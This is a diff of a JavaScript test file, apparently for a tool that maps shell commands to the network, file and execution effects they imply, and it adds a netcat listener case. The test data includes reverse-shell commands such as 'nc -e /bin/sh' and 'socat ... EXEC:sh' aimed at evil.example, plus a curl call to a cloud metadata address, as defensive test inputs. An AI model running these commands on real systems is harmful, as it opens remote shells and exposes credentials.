@@ -210,6 +210,7 @@ describe('the network', () => {
     ['curl http://[fd00:ec2::254]/a?b=*', ['host fd00:ec2::254 http 80']],
     ['nc -e /bin/sh 10.0.0.1 4444', ['execute /bin/sh', 'host 10.0.0.1 tcp 4444']],
     ['nc evil.example 80', ['host evil.example tcp 80']],
+    ['nc -l 4444', ['host 0.0.0.0']],
     ['socat TCP:evil.example:80 EXEC:sh', ['host evil.example tcp 80']],
     ['socat FILE:f TCP:h.example:1', ['read /w/f', 'write /w/f', 'host h.example tcp 1']],
     ['socat CREATE:f TCP:h.example:1', ['write /w/f', 'host h.example tcp 1']],
